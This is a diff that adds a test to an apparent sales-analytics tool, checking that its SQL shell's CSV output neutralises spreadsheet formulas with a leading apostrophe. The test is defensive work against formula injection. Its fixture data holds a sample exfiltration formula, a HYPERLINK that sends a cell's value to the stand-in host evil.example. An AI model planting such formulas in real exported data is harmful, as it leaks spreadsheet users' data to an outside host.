@@ -228,3 +228,27 @@ def test_validate_refuses_hostile_files_with_the_same_reasons_and_no_traceback(h
         assert code == 1
         assert "CANNOT LOAD:" in captured.out and reason in captured.out, captured.out
         assert "Traceback" not in captured.out + captured.err
+
+
+def test_sql_csv_output_neutralises_formulas_like_the_xlsx_briefs(tmp_path):
+    """`salespulse sql --csv`: a cell a spreadsheet would run (`=HYPERLINK(…)`, `@SUM`, `+`, `-`)
+    is written with a leading apostrophe, as in the briefs' XLSX; numbers stay numbers."""
+    import io
+
+    from salespulse.sql_shell import shell
+
+    analytics = tmp_path / "analytics.duckdb"
+    with duckdb.connect(str(analytics)) as con:
+        con.execute("create table notes (note varchar, amount integer)")
+        con.executemany(
+            "insert into notes values (?, ?)",
+            [['=HYPERLINK("http://evil.example/?d="&A1,"click")', -5], ["@SUM(1+1)", 1], ["plain", 2]],
+        )
+    out = io.StringIO()
+    assert shell(analytics, command="select * from notes order by amount", out=out, as_csv=True) == 0
+    assert out.getvalue().splitlines() == [
+        "note,amount",
+        '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",-5',
+        "'@SUM(1+1),1",
+        "plain,2",
+    ]
